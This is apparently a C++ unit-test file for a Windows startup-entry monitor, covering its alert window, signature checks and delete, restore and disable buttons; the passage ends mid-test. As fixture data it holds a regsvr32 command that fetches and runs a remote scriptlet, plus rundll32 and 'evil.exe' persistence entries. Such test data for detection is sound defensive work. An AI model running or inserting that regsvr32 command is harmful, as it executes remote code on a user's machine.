// What the alert shows for each kind of notice, on windowless forms.

#include <gtest/gtest.h>

#include <chrono>
#include <thread>

#include "lib/Hives.h"
#include "monitor/ChangeTexts.h"
#include "monitor/WatchedKeys.h"
#include "tests/fakes/FakeSignatureCheck.h"
#include "tests/native/UiHarness.h"
#include "ui/UiTexts.h"
#include "ui/Unit1.h"
#include "ui/Unit2.h"

namespace kw::test {
namespace {

class AlertTest : public ::testing::Test, protected TFakeServices {
 protected:
  AlertTest() {
    Form1 = &Main;
    Form2 = &Alert;
  }
  ~AlertTest() override {
    Form1 = nullptr;
    Form2 = nullptr;
  }
  // A record as a monitor of HKCU's Run key makes it.
  static TChangeRecord Record(TChangeKind kind, std::string name, std::string line,
                              std::string data = "") {
    TChangeRecord r;
    r.Kind = kind;
    r.RootKey = kHkeyCurrentUser;
    r.Location = "\\Software\\Microsoft\\Windows\\CurrentVersion\\Run";
    r.ValueName = name;
    r.Identity = std::u16string(name.begin(), name.end());
    r.Line = std::move(line);
    r.Program = std::u16string(r.Line.begin(), r.Line.end());
    (kind == TChangeKind::Deleted ? r.OldData : r.NewData) = data.empty() ? r.Line : data;
    if (kind == TChangeKind::Added) r.Title = texts::kTitleAdded;
    if (kind == TChangeKind::Deleted) r.Title = texts::kTitleDeleted;
    return r;
  }
  // Queues the records and wakes the main window as a monitor does; then
  // the timers tick, as they do once the alert is painted.
  void Notify(std::vector<TChangeRecord> records) {
    Main.Queue().Append(records);
    Main.HandleMessage(WM_REGCHANGE, 0, 0);
    Tray.TickAll();
  }
  std::string Icon() const {
    auto* picture = static_cast<const fake::FakePicture*>(Alert.Image1->Picture());
    return picture ? picture->Source : "<none>";
  }

  TForm1 Main{Services};
  TForm2 Alert{&Main, Services};
};

TEST_F(AlertTest, ShowsTheNewestChangeWholeAndKeepsEveryOtherReachable) {
  EXPECT_EQ(Alert.Text(), texts::kAlertCaption);
  Notify(
      {Record(TChangeKind::Added, "A", "C:\\a.exe"), Record(TChangeKind::Added, "B", "C:\\b.exe")});
  EXPECT_TRUE(Alert.Visible());
  // The first would be replaced before anyone could see it: no window work for it.
  EXPECT_EQ(Shell.IconRequests, (std::vector<std::string>{"C:\\b.exe"}));
  EXPECT_EQ(Alert.Edit3->Text(), "C:\\b.exe");
  EXPECT_EQ(Icon(), "C:\\b.exe");
  EXPECT_EQ(Alert.Edit4->Text(), "HKEY_CURRENT_USER");
  EXPECT_EQ(Alert.Edit2->Text(), "\\Software\\Microsoft\\Windows\\CurrentVersion\\Run");
  EXPECT_EQ(Alert.Edit1->Text(), std::string(texts::kRegistryChange) + "2026/12/9 13:05:09");
  EXPECT_EQ(Alert.Text(), texts::kTitleAdded);
  EXPECT_EQ(Alert.sLabelFX1->Text(), "B");
  EXPECT_EQ(Alert.TabSheet1->Text(), std::string(texts::kAlertPage) + " 2/2");
  EXPECT_TRUE(Alert.Button4->Visible());
  EXPECT_FALSE(Alert.Edit5->Visible());  // the data is the path: nothing more to show
  // The whole key, hive and all, however narrow the field.
  EXPECT_EQ(Alert.Edit2->Hint,
            "HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run");

  // "<": the older change, every field from it.
  Alert.Button4->Click();
  EXPECT_EQ(Alert.Edit3->Text(), "C:\\a.exe");
  EXPECT_EQ(Alert.sLabelFX1->Text(), "A");
  EXPECT_EQ(Alert.TabSheet1->Text(), std::string(texts::kAlertPage) + " 1/2");

  // A change names its program in its line; a command line shows whole in Edit5.
  Clock.Time.Second = 10;
  Notify({Record(TChangeKind::Changed, "B", ChangedLine("B", "C:\\b.exe", "C:\\c.exe")),
          Record(TChangeKind::Deleted, "R", "rundll32.exe C:\\Users\\Public\\x.dll,Start",
                 "rundll32.exe C:\\Users\\Public\\x.dll,Start")});
  EXPECT_EQ(Alert.Text(), texts::kTitleDeleted);
  EXPECT_EQ(Alert.TabSheet1->Text(), std::string(texts::kAlertPage) + " 4/4");
  Notify({Record(TChangeKind::Added, "S", "regsvr32 ",
                 "regsvr32 /s /i:http://host/x.sct scrobj.dll")});
  EXPECT_TRUE(Alert.Edit5->Visible());
  EXPECT_EQ(Alert.Edit5->Text(), "regsvr32 /s /i:http://host/x.sct scrobj.dll");
  EXPECT_EQ(Alert.Edit5->Hint, Alert.Edit5->Text());
  Alert.Button4->Click();
  Alert.Button4->Click();
  EXPECT_EQ(Alert.Edit3->Text(), ChangedLine("B", "C:\\b.exe", "C:\\c.exe"));
  EXPECT_EQ(Icon(), "");  // a change line names no file: the question mark shows
  EXPECT_FALSE(Alert.Edit5->Visible());
  EXPECT_EQ(Alert.Edit1->Text(), std::string(texts::kRegistryChange) + "2026/12/9 13:05:10");

  // A flood: the newest shown, every one counted, one icon lookup.
  const std::size_t lookups = Shell.IconRequests.size();
  std::vector<TChangeRecord> flood;
  for (int i = 0; i < 5000; ++i) {
    flood.push_back(Record(TChangeKind::Added, "F" + std::to_string(i),
                           "C:\\flood\\" + std::to_string(i) + ".exe"));
  }
  Notify(std::move(flood));
  EXPECT_EQ(Shell.IconRequests.size(), lookups + 1);
  EXPECT_EQ(Alert.Edit3->Text(), "C:\\flood\\4999.exe");
  EXPECT_EQ(Alert.sLabelFX1->Text(), "F4999");
  EXPECT_EQ(Alert.TabSheet1->Text(), std::string(texts::kAlertPage) + " 5005/5005");

  // The program is read once the fields are on the screen, when the timer
  // ticks; meanwhile the icon of the one before does not stand beside them.
  std::vector<TChangeRecord> picked{Record(TChangeKind::Added, "P", "C:\\p.exe")};
  Main.Queue().Append(picked);
  Main.HandleMessage(WM_REGCHANGE, 0, 0);
  EXPECT_EQ(Alert.Edit3->Text(), "C:\\p.exe");
  EXPECT_EQ(Icon(), "");
  Tray.TickAll();
  EXPECT_EQ(Icon(), "C:\\p.exe");

  // "确定" dismisses them all: the next change is alone again.
  Alert.Button2->Click();
  Notify({Record(TChangeKind::Added, "N", "C:\\n.exe")});
  EXPECT_EQ(Alert.TabSheet1->Text(), texts::kAlertPage);
  EXPECT_FALSE(Alert.Button4->Visible());
}

// A wake-up that brings nothing new, or one forged by another program, changes
// no field and neither raises nor sounds the alert.
TEST_F(AlertTest, AWakeUpWithNothingNewChangesNothing) {
  Notify({Record(TChangeKind::Added, "A", "C:\\a.exe")});
  Alert.Close();
  Sound.Calls.clear();
  Clock.Time.Second = 10;
  Main.HandleMessage(WM_REGCHANGE, 0x41414141, 0x41414141);
  Notify({});
  EXPECT_FALSE(Alert.Visible());
  EXPECT_EQ(Alert.Edit1->Text(), std::string(texts::kRegistryChange) + "2026/12/9 13:05:09");
  EXPECT_EQ(Alert.Edit3->Text(), "C:\\a.exe");
  EXPECT_TRUE(Sound.Calls.empty());
}

TEST_F(AlertTest, EveryRecordTakenGoesToTheEventLogWithTheTimeItWasTaken) {
  Clock.Time.Milliseconds = 250;
  std::vector<TChangeRecord> flood;
  for (int i = 0; i < 300; ++i)
    flood.push_back(Record(TChangeKind::Added, "F" + std::to_string(i), "C:\\f.exe"));
  flood.push_back(Record(TChangeKind::Deleted, "D", "C:\\d.exe"));
  Notify(std::move(flood));
  ASSERT_EQ(ChangeLog.Records.size(), 301u);  // not only the one shown
  EXPECT_EQ(ChangeLog.Records.front().ValueName, "F0");
  EXPECT_EQ(ChangeLog.Records.back().Kind, TChangeKind::Deleted);
  EXPECT_EQ(ChangeLog.Records.back().Time.Milliseconds, 250);
  EXPECT_EQ(ChangeLog.Records.back().Time.Second, 9);
  // A forged wake-up brings nothing to write.
  Main.HandleMessage(WM_REGCHANGE, 1, 1);
  EXPECT_EQ(ChangeLog.Records.size(), 301u);
}

// The signer line: filled off the UI thread, for the picked change's own
// program only, never from a look at an earlier file at its path.
class SignerLineTest : public AlertTest {
 protected:
  SignerLineTest() { Services.Signers = &Lookup; }
  ~SignerLineTest() override { Services.Signers = nullptr; }
  // Handles the lookup's posts until one arrives, or with `shown`, until
  // the line shows something; false after 10 s.
  bool Deliver(bool shown = true) {
    for (int i = 0; i < 1000; ++i) {
      if (Fake.Messenger.DeliverPosted() > 0 && (!shown || !Line().empty())) return true;
      std::this_thread::sleep_for(std::chrono::milliseconds(10));
    }
    return false;
  }
  std::string Line() const { return Alert.sLabelFX2->Text(); }

  std::shared_ptr<fake::FakeSignatureCheck> Check = std::make_shared<fake::FakeSignatureCheck>();
  WindowHandle Window =
      Fake.Messenger.CreateWindow([this](std::uint32_t message, std::uintptr_t, std::intptr_t) {
        Main.HandleMessage(message, 0, 0);
      });
  TSignerLookup Lookup{Check, Fake.Messenger, Window};
};

TEST_F(SignerLineTest, ShowsThePickedProgramsVerdictOnceKnownAndLogsEach) {
  const std::string signedBy = texts::kSignedByPrefix;
  Check->Put(u"C:\\a.exe", {{1, 10, 100, 1000, 1000}, {TSignatureKind::Signed, u"Contoso \u00e9"}});
  Check->Put(u"C:\\b.exe", {{1, 11, 100, 1000, 1000}, {TSignatureKind::Unsigned, u""}});
  Check->Put(u"C:\\t.exe", {{1, 12, 100, 1000, 1000}, {TSignatureKind::Invalid, u""}});
  Check->Put(u"C:\\x.exe", {{1, 13, 100, 1000, 1000}, {}, true});
  Check->Put(u"C:\\Program Files\\Tool\\t.exe",
             {{1, 14, 1, 1, 1}, {TSignatureKind::Unsigned, u""}});
  Check->Put(u"\\\\host\\share\\n.exe", {{1, 15, 1, 1, 1}, {TSignatureKind::Signed, u"N"}});
  struct TRow {
    const char* Program;
    std::string Line;
    bool Checked = true;  // else told at once, nothing read
  } rows[] = {
      {"C:\\a.exe", signedBy + "Contoso ?"},  // without best fit, as every field
      {"C:\\b.exe", texts::kNotSigned},
      {"C:\\t.exe", texts::kSignatureInvalid},
      {"C:\\x.exe", texts::kSignatureNotChecked},     // the check failed
      {"C:\\gone.exe", texts::kSignatureNotChecked},  // the check cannot open it
      {"%ProgramFiles%\\Tool\\t.exe", texts::kNotSigned},
      {"\\\\host\\share\\n.exe", texts::kSignatureNotChecked, false},
      {"N:\\n.exe", texts::kSignatureNotChecked},     // the check refuses a network drive
      {"n.exe", texts::kSignatureNotChecked, false},  // wherever the search path leads
  };
  for (const TRow& row : rows) {
    const int verified = Check->Verified();
    Notify({Record(TChangeKind::Added, "S", row.Program)});
    if (row.Checked) {
      EXPECT_EQ(Line(), "") << row.Program;  // the alert does not wait
      ASSERT_TRUE(Deliver()) << row.Program;
    } else {
      EXPECT_EQ(Check->Verified(), verified) << row.Program;
    }
    EXPECT_EQ(Line(), row.Line) << row.Program;
  }
  // Each logged change is told its program's signer in an event of its own;
  // the log's own ask may be answered after the alert's.
  for (int i = 0; i < 1000 && ChangeLog.Signers.size() < 9u; ++i) {
    Fake.Messenger.DeliverPosted();
    std::this_thread::sleep_for(std::chrono::milliseconds(10));
  }
  ASSERT_EQ(ChangeLog.Signers.size(), 9u);
  EXPECT_EQ(ChangeLog.Signers[0].first.Program, u"C:\\a.exe");
  EXPECT_EQ(ChangeLog.Signers[0].second.Signer, u"Contoso \u00e9");
  EXPECT_EQ(ChangeLog.Signers[1].second.Kind, TSignatureKind::Unsigned);
  // "确定" leaves no line behind.
  Alert.Button2->Click();
  EXPECT_EQ(Line(), "");
}

TEST_F(SignerLineTest, AVerdictOfAnotherChangeOrAnEarlierFileNeverShows) {
  Check->Put(u"C:\\a.exe", {{1, 10, 100, 1000, 1000}, {TSignatureKind::Signed, u"A"}});
  Check->Put(u"C:\\b.exe", {{1, 11, 100, 1000, 1000}, {TSignatureKind::Unsigned, u""}});
  Check->Hold(u"C:\\a.exe");
  Check->Hold(u"C:\\b.exe");
  Notify({Record(TChangeKind::Added, "A", "C:\\a.exe")});
  ASSERT_TRUE(Check->WaitUntilWaiting(u"C:\\a.exe"));
  Notify({Record(TChangeKind::Added, "B", "C:\\b.exe")});
  // a.exe's verdict comes while b.exe's change is picked: not on its line.
  Check->LetGo(u"C:\\a.exe");
  ASSERT_TRUE(Deliver(false));
  EXPECT_EQ(Line(), "");
  Check->LetGo(u"C:\\b.exe");
  ASSERT_TRUE(Deliver());
  EXPECT_EQ(Line(), texts::kNotSigned);

  // Picked again: checked again, the same file taken from what is known,
  // another in its place read whole, however like the first.
  const int verified = Check->Verified();
  Alert.Button4->Click();
  EXPECT_EQ(Line(), "");
  ASSERT_TRUE(Deliver());
  EXPECT_EQ(Line(), std::string(texts::kSignedByPrefix) + "A");
  EXPECT_EQ(Check->Verified(), verified);
  const TFileStamp swaps[] = {
      {1, 20, 100, 1000, 1000},     // another file moved in, size and times set alike
      {1, 20, 100, 1000, 1001},     // the same written in place, its write time set back
      {2, 20, 100, 1000, 1001},     // on another volume
      {1, 10, 100, 1000, 1000, 7},  // written in place, both times set back
  };
  for (const TFileStamp& stamp : swaps) {
    Check->Put(u"C:\\a.exe", {stamp, {TSignatureKind::Invalid, u""}});
    Alert.Button5->Click();
    Alert.Button4->Click();
    ASSERT_TRUE(Deliver());
    EXPECT_EQ(Line(), texts::kSignatureInvalid)
        << stamp.FileIndex << " " << stamp.Changed << " " << stamp.JournalNumber;
    Check->Put(u"C:\\a.exe", {{1, 10, 100, 1000, 1000}, {TSignatureKind::Signed, u"A"}});
    Alert.Button5->Click();
    Alert.Button4->Click();
    ASSERT_TRUE(Deliver());
    EXPECT_EQ(Line(), std::string(texts::kSignedByPrefix) + "A");
  }
  EXPECT_EQ(Check->Verified(), verified + 8);
}

// A flood while a check is stuck: the newest changes still get their signer
// events, and what waits stays bounded, the oldest dropped.
TEST_F(SignerLineTest, AFloodBehindAStuckCheckKeepsTheNewest) {
  Check->Put(u"C:\\stuck.exe", {{1, 1, 1, 1, 1}, {TSignatureKind::Signed, u"S"}});
  Check->Hold(u"C:\\stuck.exe");
  Notify({Record(TChangeKind::Added, "S", "C:\\stuck.exe")});
  ASSERT_TRUE(Check->WaitUntilWaiting(u"C:\\stuck.exe"));
  std::vector<TChangeRecord> flood;
  for (int i = 0; i < 3000; ++i) {
    flood.push_back(Record(TChangeKind::Added, "F", "C:\\f" + std::to_string(i) + ".exe"));
  }
  Notify(std::move(flood));
  Check->LetGo(u"C:\\stuck.exe");
  auto logged = [&](const std::u16string& program) {
    for (const auto& [record, signature] : ChangeLog.Signers) {
      if (record.Program == program) return true;
    }
    return false;
  };
  for (int i = 0; i < 1000 && !logged(u"C:\\f2999.exe"); ++i) Deliver(false);
  EXPECT_TRUE(logged(u"C:\\f2999.exe"));
  EXPECT_FALSE(logged(u"C:\\f0.exe"));
  EXPECT_LE(ChangeLog.Signers.size(), TSignerLookup::kMaxWaiting + 2);
  Notify({Record(TChangeKind::Added, "A", "C:\\after.exe")});
  for (int i = 0; i < 1000 && !logged(u"C:\\after.exe"); ++i) Deliver(false);
  EXPECT_TRUE(logged(u"C:\\after.exe"));
}

// A check that does not end (a huge file, a stuck read) holds the end of the
// program no longer than the bound; the check finishes on its own later.
TEST(SignerLookup, EndsWithinItsBoundWhileACheckIsStillReading) {
  fake::FakeMessenger messenger;
  const WindowHandle window =
      messenger.CreateWindow([](std::uint32_t, std::uintptr_t, std::intptr_t) {});
  auto check = std::make_shared<fake::FakeSignatureCheck>();
  check->Put(u"C:\\huge.exe", {{1, 1, 1ull << 40, 1, 1}, {TSignatureKind::Signed, u"H"}});
  check->Hold(u"C:\\huge.exe");
  const std::weak_ptr<fake::FakeSignatureCheck> left = check;
  const auto began = std::chrono::steady_clock::now();
  {
    TSignerLookup lookup(check, messenger, window, std::chrono::milliseconds(100));
    lookup.AskFirst(u"C:\\huge.exe");
    ASSERT_TRUE(check->WaitUntilWaiting(u"C:\\huge.exe"));
  }
  EXPECT_LT(std::chrono::steady_clock::now() - began, std::chrono::seconds(5));
  check->LetGo(u"C:\\huge.exe");
  check.reset();
  for (int i = 0; i < 1000 && !left.expired(); ++i) {
    std::this_thread::sleep_for(std::chrono::milliseconds(10));
  }
  EXPECT_TRUE(left.expired()) << "the check's own share was never let go";
  EXPECT_EQ(messenger.DeliverPosted(), 0u);  // nothing told after the end
}

TEST_F(AlertTest, AtMidnightTheTimeLineHoldsTheDateAlone) {
  Clock.Time = {2026, 1, 2, 0, 0, 0, 731};
  Notify({Record(TChangeKind::Added, "A", "C:\\a.exe")});
  EXPECT_EQ(Alert.Edit1->Text(), std::string(texts::kRegistryChange) + "2026/1/2");
}

// Reading an icon opens the file: off this machine that can keep the UI
// thread, and every watcher with it, waiting on the network.
TEST_F(AlertTest, NoIconIsLookedForOnAShareOrAlongTheSearchPath) {
  const std::pair<std::string, bool> rows[] = {
      {"C:\\a.exe", true},
      {"C:/a.exe", true},
      {"\\\\host\\share\\a.exe", false},
      {"//host/share/a.exe", false},
      {"\\\\?\\UNC\\host\\share\\a.exe", false},
      {"\\??\\UNC\\host\\share\\a.exe", false},
      {"N:\\a.exe", true},  // the shell itself refuses a drive mapped to a share
      {"a.exe", false},     // looked for along the search path, which may name a share
  };
  for (const auto& [line, lookedFor] : rows) {
    Shell.IconRequests.clear();
    Notify({Record(TChangeKind::Added, "I", line)});
    EXPECT_EQ(Shell.IconRequests.size(), lookedFor ? 1u : 0u) << line;
    EXPECT_EQ(Icon(), lookedFor ? line : "") << line;
  }
}

// A notice names no value: the label is emptied so that "删除" cannot delete
// a value of another change under the notice's key.
TEST_F(AlertTest, NoticesAndAnUnknownHive) {
  Notify({Record(TChangeKind::Added, "Wallpaper", "C:\\w.exe")});
  TChangeRecord stop = Record(TChangeKind::Stopped, "", texts::kMonitoringStopped);
  stop.RootKey = 0x12345678;
  stop.Location = "\\Control Panel\\Desktop";
  Notify({stop});
  EXPECT_EQ(Alert.Edit3->Text(), texts::kMonitoringStopped);
  EXPECT_EQ(Alert.Edit4->Text(), "");
  EXPECT_EQ(Alert.sLabelFX1->Text(), "");
  EXPECT_EQ(Icon(), "");

  TChangeRecord notWatched = Record(TChangeKind::NotWatched, "", texts::kNotWatched);
  Notify({notWatched});
  EXPECT_EQ(Tray.Tip(), std::string(kTrayHint) + " - 1" + texts::kLocationsNotWatched);
  EXPECT_EQ(Tray.Icon(), Tray.WarningIcon());
  notWatched.Kind = TChangeKind::WatchedAgain;
  Notify({notWatched});
  EXPECT_EQ(Tray.Tip(), kTrayHint);
  EXPECT_EQ(Tray.Icon(), Tray.ProgramIcon());
}

// A named value Windows needs (Winlogon's Userinit) is reported, never
// deleted from the alert: without it no one could log on.
TEST_F(AlertTest, ASettingOfWindowsIsNotDeletedFromTheAlert) {
  const std::string winlogon = "SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon";
  Fake.Registry.SetString(kHkeyLocalMachine, winlogon, "Userinit", "C:\\evil.exe");
  TChangeRecord userinit = Record(TChangeKind::Changed, "Userinit", "C:\\evil.exe");
  userinit.RootKey = kHkeyLocalMachine;
  userinit.Location = "\\" + winlogon;
  userinit.Setting = true;
  Notify({userinit});
  Alert.Button1->Click();
  EXPECT_EQ(Host.Messages,
            std::vector<std::string>{texts::kSettingNotDeletedPrefix + std::string("Userinit")});
  EXPECT_TRUE(Fake.Registry.HasValue(kHkeyLocalMachine, winlogon, "Userinit"));
}

// "删除" acts on exactly the record shown: a default value shown after a
// named one, and a subkey's value by the subkey's exact name whatever its view.
TEST_F(AlertTest, DeleteActsOnExactlyTheRecordShown) {
  const std::string run = "Software\\Microsoft\\Windows\\CurrentVersion\\Run";
  const std::string runOnceEx = "SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\RunOnceEx";
  Fake.Registry.SetString(kHkeyCurrentUser, run, "KwOneDrive", "C:\\a.exe");
  Fake.Registry.SetString(kHkeyCurrentUser, run, "", "C:\\evil.exe");
  Fake.Registry.SetString(kHkeyCurrentUser, runOnceEx + "\\0001", "Step", "C:\\s.exe");
  TChangeRecord byDefault = Record(TChangeKind::Added, texts::kDefaultValue, "C:\\evil.exe");
  byDefault.Identity.clear();
  byDefault.Key = u"\\Software\\Microsoft\\Windows\\CurrentVersion\\Run";
  Notify({Record(TChangeKind::Added, "KwOneDrive", "C:\\a.exe"), byDefault});
  EXPECT_EQ(Alert.sLabelFX1->Text(), texts::kDefaultValue);
  Alert.Button1->Click();
  EXPECT_FALSE(Fake.Registry.HasValue(kHkeyCurrentUser, run, u""));
  EXPECT_TRUE(Fake.Registry.HasValue(kHkeyCurrentUser, run, "KwOneDrive"));

  TChangeRecord step = Record(TChangeKind::Added, "Step", "C:\\s.exe");
  step.Location = "\\" + runOnceEx + "\\?";  // as a name 936 lacks would show
  step.Key = u"\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\RunOnceEx\\0001";
  step.IdentitySubKey = u"0001";
  Notify({step});
  Alert.Button1->Click();
  EXPECT_FALSE(Fake.Registry.HasValue(kHkeyCurrentUser, runOnceEx + "\\0001", "Step"));
  EXPECT_EQ(Host.Messages,
            (std::vector<std::string>{texts::kDeletedPrefix + std::string(texts::kDefaultValue),
                                      texts::kDeletedPrefix + std::string("Step")}));
}

// "恢复" writes the old side back, as its old type, under the exact name,
// but only over a value still as the change left it; it is offered only
// where there is an old side.
TEST_F(AlertTest, PutBackWritesTheOldSideOnlyOverWhatTheChangeLeft) {
  const std::string run = "Software\\Microsoft\\Windows\\CurrentVersion\\Run";
  struct TRow {
    const char* Case;
    TChangeKind Kind;
    std::uint32_t OldType;
    const char16_t* Old;
    const char16_t* Recorded;  // the new side the record holds
    const char16_t* Now;       // what the registry holds now; null: nothing
    const char* Message;
    const char16_t* After;  // what the registry then holds; null: nothing
  };
  const TRow rows[] = {
      {"a changed value", TChangeKind::Changed, kRegSz, u"C:\\trusted.exe", u"C:\\evil.exe",
       u"C:\\evil.exe", texts::kPutBackPrefix, u"C:\\trusted.exe"},
      {"a deleted expandable value", TChangeKind::Deleted, kRegExpandSz, u"%ProgramFiles%\\a.exe",
       nullptr, nullptr, texts::kPutBackPrefix, u"%ProgramFiles%\\a.exe"},
      {"changed again since", TChangeKind::Changed, kRegSz, u"C:\\trusted.exe", u"C:\\evil.exe",
       u"C:\\other.exe", texts::kChangedSincePrefix, u"C:\\other.exe"},
      {"deleted, then made again", TChangeKind::Deleted, kRegSz, u"C:\\a.exe", nullptr,
       u"C:\\b.exe", texts::kChangedSincePrefix, u"C:\\b.exe"},
  };
  const std::u16string name = u"木马\xD55C";  // exactly, though 936 shows it as "木马?"
  for (const TRow& row : rows) {
    Fake.Registry.DeleteValue(kHkeyCurrentUser, run, name);
    if (row.Now) {
      Fake.Registry.SetValue(kHkeyCurrentUser, run, name, kRegSz, std::u16string(row.Now) + u'\0');
    }
    TChangeRecord record = Record(row.Kind, "木马?", "C:\\x.exe");
    record.Identity = name;
    record.Key = u"\\Software\\Microsoft\\Windows\\CurrentVersion\\Run";
    record.Type = kRegSz;
    record.OldType = row.OldType;
    record.OldText = row.Old;
    if (row.Recorded) record.NewText = row.Recorded;
    Notify({record});
    EXPECT_TRUE(Alert.Button6->Visible()) << row.Case;
    Host.Messages.clear();
    Alert.Button6->Click();
    EXPECT_EQ(Host.Messages, std::vector<std::string>{row.Message + std::string("木马?")})
        << row.Case;
    TRegValue value;
    const long found =
        Fake.Registry.OpenKey(kHkeyCurrentUser, run, kKeyRead)->QueryValue(name, value);
    ASSERT_EQ(found, row.After ? kErrorSuccess : kErrorFileNotFound) << row.Case;
    EXPECT_TRUE(value.Text == std::u16string(row.After) + u'\0') << row.Case;
    EXPECT_EQ(value.Type, row.Message == texts::kPutBackPrefix ? row.OldType : kRegSz) << row.Case;
  }
  // A deleted shortcut is made again with the target and arguments read of
  // it, under its exact name, but never in the place of a file there since;
  // one whose target was never read has nothing to put back.
  TChangeRecord shortcut = Record(TChangeKind::Deleted, "木马?.lnk", "C:\\a.exe");
  shortcut.Where = TLocationKind::StartupFolder;
  shortcut.Identity = name + u".lnk";
  shortcut.IdentitySubKey = u"C:\\Startup";
  shortcut.OldText = u"/tray";
  for (const char* message : {texts::kPutBackPrefix, texts::kChangedSincePrefix}) {
    Notify({shortcut});
    ASSERT_TRUE(Alert.Button6->Visible()) << message;
    Host.Messages.clear();
    Alert.Button6->Click();
    EXPECT_EQ(Host.Messages, std::vector<std::string>{message + std::string("木马?.lnk")});
  }
  std::u16string target, arguments;
  ASSERT_TRUE(Fake.Folders.ReadShortcut(u"C:\\Startup\\" + shortcut.Identity, target, arguments));
  EXPECT_TRUE(target == u"C:\\a.exe" && arguments == u"/tray");
  shortcut.Program = u"C:\\Startup\\" + shortcut.Identity;
  Notify({shortcut});
  EXPECT_FALSE(Alert.Button6->Visible()) << "a shortcut never read";

  Notify({Record(TChangeKind::Added, "A", "C:\\a.exe")});
  EXPECT_FALSE(Alert.Button6->Visible()) << "an added value has no old side";
  Alert.Button2->Click();
  EXPECT_FALSE(Alert.Button6->Visible());
}

// "禁用" writes Task Manager's switch for an entry that is there, under its
// exact name and the hive of its switch, and again for a switch a program
// turned on; it is offered nowhere else.
TEST_F(AlertTest, SwitchOffWritesTaskManagersSwitchWhereWindowsKeepsOne) {
  const std::string approved = kStartupApproved;
  struct TRow {
    const char* Case;
    TChangeKind Kind;
    std::uint32_t Type;
    HiveHandle Hive;  // the switch's; 0: none
    const char16_t* SubKey;
    bool Offered;
  };
  const TRow rows[] = {
      {"an added Run value", TChangeKind::Added, kRegSz, kHkeyCurrentUser, u"Run", true},
      {"a changed one of the 32-bit view", TChangeKind::Changed, kRegSz, kHkeyLocalMachine,
       u"Run32", true},
      {"a startup file of the common folder", TChangeKind::Added, 0, kHkeyLocalMachine,
       u"StartupFolder", true},
      {"a switch a program deleted", TChangeKind::Deleted, kRegBinary, kHkeyCurrentUser, u"Run",
       true},
      {"a switch a program turned on", TChangeKind::Changed, kRegBinary, kHkeyCurrentUser, u"Run",
       true},
      {"a deleted Run value", TChangeKind::Deleted, kRegSz, kHkeyCurrentUser, u"Run", false},
      {"a switch a program turned off", TChangeKind::Added, kRegBinary, kHkeyCurrentUser, u"Run",
       false},
      {"a RunOnce value", TChangeKind::Added, kRegSz, 0, u"", false},
  };
  const std::u16string name = u"木马\xD55C";
  const std::u16string off = {3, 0, 0x5678, 0x1234, 0x6A0B, 0x01DD};  // 03 00 00 00, then the time
  for (const TRow& row : rows) {
    const std::u16string subKey = row.SubKey;
    const std::string key = approved + "\\" + std::string(subKey.begin(), subKey.end());
    if (row.Hive != 0) Fake.Registry.DeleteValue(row.Hive, key, name);
    TChangeRecord record = Record(row.Kind, "木马?", "C:\\x.exe");
    record.Identity = name;
    record.Type = row.Type;
    record.SwitchHive = row.Hive;
    record.SwitchKey = row.SubKey;
    if (row.Type == kRegBinary) {  // a switch's own record
      record.IdentitySubKey = row.SubKey;
      record.NewText = row.Kind == TChangeKind::Added ? u"off:3:03000000" : u"on:3:02000000";
    }
    Notify({record});
    ASSERT_EQ(Alert.Button7->Visible(), row.Offered) << row.Case;
    if (!row.Offered) continue;
    Host.Messages.clear();
    Alert.Button7->Click();
    EXPECT_EQ(Host.Messages,
              std::vector<std::string>{texts::kSwitchedOffPrefix + std::string("木马?")})
        << row.Case;
    TRegValue value;
    ASSERT_EQ(Fake.Registry.OpenKey(row.Hive, key, kKeyRead)->QueryValue(name, value),
              kErrorSuccess)
        << row.Case;
    EXPECT_EQ(value.Type, kRegBinary) << row.Case;
    EXPECT_TRUE(value.Text == off) << row.Case;
  }
  Alert.Button2->Click();
  EXPECT_FALSE(Alert.Button7->Visible());
}

// Records a flood pushed out before the alert could take them are counted
// on its tab and in the log, never lost in silence.
TEST_F(AlertTest, RecordsDroppedInAFloodAreCountedOnTheTabAndInTheLog) {
  std::vector<TChangeRecord> flood(TChangeQueue::kMaxQueued + 3,
                                   Record(TChangeKind::Added, "A", "C:\\a.exe"));
  Notify(std::move(flood));
  EXPECT_EQ(ChangeLog.Lost, 3u);
  const std::string count = std::to_string(TChangeQueue::kMaxQueued);
  EXPECT_EQ(Alert.TabSheet1->Text(),
            texts::kAlertPage + (" " + count + "/" + count) + texts::kDroppedPrefix + "3)");
  Alert.Button2->Click();
  EXPECT_EQ(Alert.TabSheet1->Text(), texts::kAlertPage);
}

TEST_F(AlertTest, RecordsBeforeTheAlertExistsAreKeptForTheNextWakeUp) {
  Form2 = nullptr;
  Notify({Record(TChangeKind::Added, "A", "C:\\a.exe")});
  Form2 = &Alert;
  EXPECT_FALSE(Alert.Visible());
  Notify({});
  EXPECT_EQ(Alert.Edit3->Text(), "C:\\a.exe");
}

TEST_F(AlertTest, ClosingStopsTheSoundAndHides) {
  Notify({Record(TChangeKind::Added, "A", "C:\\a.exe")});
  Alert.Close();
  EXPECT_FALSE(Alert.Visible());
  EXPECT_EQ(Sound.Calls, std::vector<std::string>{"stop"});
}

TEST(Hives, NamesAndHandles) {
  EXPECT_EQ(HiveToName(0x80000000), "HKEY_CLASSES_ROOT");
  EXPECT_EQ(HiveToName(0x80000006), "HKEY_DYN_DATA");
  EXPECT_EQ(HiveToName(0x80000007), "");
  EXPECT_EQ(HiveToName(0x7FFFFFFF), "");
  EXPECT_EQ(NameToHive("hkey_local_MACHINE"), 0x80000002u);
  EXPECT_EQ(NameToHive("HKEY_LOCAL_MACHINE "), 0u);
  EXPECT_EQ(NameToHive(""), 0u);
}

TEST(Toolkit, OwnsComponentsInCreationOrderAndKnowsTheirClasses) {
  TFakeServices fakes;
  TForm2 form(nullptr, fakes.Services);
  std::vector<std::string> names;
  for (vcl::TComponent* c : form.Components()) names.push_back(c->Name());
  EXPECT_EQ(names, (std::vector<std::string>{
                       "PageControl1", "TabSheet1", "sLabelFX1", "Image5", "Image1",  "Edit4",
                       "Edit1",        "Edit2",     "Image3",    "Edit3",  "Image2",  "Image4",
                       "Button2",      "Button1",   "Button3",   "Edit5",  "Button4", "Button5",
                       "Button6",      "Button7",   "sLabelFX2"}));
  EXPECT_TRUE(form.Edit1->InheritsFrom("TEdit"));
  EXPECT_TRUE(form.Edit1->InheritsFrom("TWinControl"));
